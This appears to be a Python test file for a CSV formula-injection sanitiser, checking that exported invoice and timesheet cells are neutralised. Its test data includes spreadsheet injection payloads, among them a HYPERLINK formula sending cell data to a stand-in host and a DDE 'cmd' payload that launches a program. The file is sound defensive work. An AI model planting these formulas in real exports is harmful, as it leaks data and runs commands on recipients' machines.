"""CSV formula injection (issue 14 item 7): every CSV the project writes goes through ivr.csvsafe.

Text cells that a spreadsheet would run (first character ``=``, ``+``, ``-``, ``@``, tab,
CR, LF, after any spaces) get a leading apostrophe; plain numbers — negative amounts of
credit lines included — stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from billing.render import csv_text
from ivr.csvsafe import safe_cell, writer

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_cells_a_spreadsheet_would_run_are_made_text(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.50", "+3", "42", "0.5", "-0.01", "1e3", "V-2026-001", "PO 1001", "", "Alice"])
def test_numbers_and_ordinary_text_are_left_alone(cell):
    assert safe_cell(cell) == cell


def test_non_text_values_are_numbers_and_written_as_they_are():
    assert safe_cell(Decimal("-12.50")) == Decimal("-12.50") and safe_cell(-3) == -3 and safe_cell(None) is None


def test_the_writer_neutralises_every_cell_and_a_reader_gets_the_text_back():
    buf = io.StringIO()
    writer(buf).writerows([["=1+1", "-12.50", Decimal("-4.00"), "R001"]])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'=1+1", "-12.50", "-4.00", "R001"]]


def test_invoice_and_timesheet_csv_go_through_it():
    text = csv_text(["visit_ref", "amount"], [['=HYPERLINK("http://x/")', "-21.50"]])
    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://x/"")",-21.50'


def test_every_csv_writer_in_the_project_is_the_safe_one():
    """One place for the rule: no module writes CSV with csv.writer directly (a new one would bypass it)."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    offenders = [str(p.relative_to(root)) for pkg in ("billing", "reports", "web", "ivr", "scheduler", "carecall")
                 for p in (root / pkg).rglob("*.py")
                 if p.name != "csvsafe.py" and ("csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text())]
    assert offenders == []


def test_a_cell_built_as_text_is_the_cell_the_writer_prints():
    """``cell_text`` (the invoice CSV builds its lines as text) must print exactly what the writer does."""
    from ivr.csvsafe import Cells, cell_text

    cells = [*HOSTILE, "plain", "", "a,b", 'say "hi"', "two\nlines", "cr\rhere", "  spaced ", "-12.50", "+3",
             "V-1", "＝1", "'quoted'", "tab\tinside", "=a,\"b\"\n", None, 7, Decimal("-4.00"), "ümlaut,ß"]
    for cell in cells:
        buf = io.StringIO()
        writer(buf).writerow(["x", cell, "y"])
        assert buf.getvalue() == f"x,{cell_text(cell)},y\n", repr(cell)
    cache = Cells()
    assert [cache[c] for c in ("a,b", "a,b", "=1")] == ['"a,b"', '"a,b"', "'=1"] and len(cache) == 2
